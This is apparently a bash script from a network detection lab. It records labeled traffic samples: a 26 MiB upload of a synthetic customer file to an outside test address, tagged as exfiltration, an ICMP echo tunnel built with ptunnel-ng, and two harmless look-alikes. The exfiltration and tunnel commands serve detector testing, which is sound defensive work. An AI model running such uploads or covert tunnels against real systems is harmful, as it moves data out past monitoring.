# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# Data that leaves: an upload and a tunnel in ICMP, and a backup and a large ping that look alike.

# jumbo on|off: large frames on the way out, so that a large upload is a small sample.
jumbo() {
    local mtu=1500 link
    [ "$1" = off ] || mtu=9000
    for link in $(ip -n "$lab-lan" -o link show type veth | sed -n 's/^[0-9]*: \([^@:]*\).*/\1/p') br0; do ip -n "$lab-lan" link set "$link" mtu "$mtu"; done
    for link in client:eth0 desk:eth0 router:site router:wan server:eth0; do ip -n "$lab-${link%:*}" link set "${link#*:}" mtu "$mtu"; done
}

# upload URL: 26 MiB of the same line again and again, from the workstation.
upload() {
    [ -f "$work/big.bin" ] || { yes '4711;Doe;Jane;1 Example Street;12345 Anywhere;jane@example.org' | head -c 27262976 >"$work/big.bin" || true; }
    on client curl -s --max-time 50 -H 'Expect:' -o /dev/null -T "$work/big.bin" "$1"
}

sample_exfil_http() {
    begin exfil_http pcap.gz
    addresses server 203.0.113 66 66
    settle_all
    start server python3 "$here/scripts/samples/services.py" sink 8080
    sleep 1
    jumbo on
    watch -s 96
    upload http://203.0.113.66:8080/drop/customers.csv
    watched
    jumbo off
    no_addresses server 203.0.113 66 66
    expect exfiltration 10.20.0.10 203.0.113.66 "26 MiB out, next to nothing back, over HTTP by address"
    origin "An upload of 26 MiB to somewhere outside" <<'TEXT'
curl -T on 10.20.0.10 sends 27,262,976 bytes to http://203.0.113.66:8080/drop/customers.csv in one request. Jumbo frames (MTU
9000) and a snaplen of 96 keep the sample small; lengths are the original ones.
TEXT
}

sample_icmp_tunnel() {
    begin icmp_tunnel
    settle_all
    start server ptunnel-ng -r127.0.0.1 -R80
    start client ptunnel-ng -p203.0.113.50 -l8000 -r127.0.0.1 -R80
    sleep 2
    watch
    # One connection: an upload, which is answered by 403, then a download.
    head -c 24000 "$work/site/files/report.bin" >"$work/secret.bin"
    on client curl -s --max-time 20 -H 'Expect:' -o /dev/null --data-binary "@$work/secret.bin" http://127.0.0.1:8000/login \
        --next -s --max-time 20 -o /dev/null -r 0-14999 http://127.0.0.1:8000/files/report.bin || true
    watched
    expect icmp_tunnel 10.20.0.10 203.0.113.50 "ptunnel-ng, HTTP inside echo messages"
    origin "A tunnel in ICMP echo" <<'TEXT'
ptunnel-ng on 10.20.0.10 carries two HTTP requests (24,000 bytes up, then 15,000 down) to its other end on 203.0.113.50 inside
echo requests and replies: payloads of many lengths, each with other bytes, and replies that do not repeat their request. The
kernel of 203.0.113.50 answers, too, as always.
TEXT
}

sample_twin_backup() {
    begin twin_backup pcap.gz
    settle_all
    start desk python3 "$here/scripts/samples/services.py" sink 8080
    sleep 1
    jumbo on
    watch -s 96
    upload http://10.20.0.20:8080/backup/customers.csv
    watched
    jumbo off
    quiet
    origin "A backup of 26 MiB to the internal server" <<'TEXT'
curl -T on 10.20.0.10 sends 27,262,976 bytes to http://10.20.0.20:8080/backup/customers.csv: the same upload as in exfil_http, but
it stays inside. MTU 9000, snaplen 96.
TEXT
}

sample_twin_ping_big() {
    begin twin_ping_big pcap.gz
    settle_all
    watch
    on client ping -q -c 40 -i 0.2 -s 1400 203.0.113.50 >/dev/null
    on client ping -q -c 10 -i 0.2 -s 4000 -p a5c3 203.0.113.51 >/dev/null
    watched
    quiet
    origin "Large pings that carry nothing" <<'TEXT'
ping from 10.20.0.10: 40 echoes of 1,400 bytes to 203.0.113.50 and ten of 4,000 bytes with a pattern to 203.0.113.51. Payloads
count up or repeat a pattern, and every reply equals its request.
TEXT
}

all+=(exfil_http icmp_tunnel twin_backup twin_ping_big)
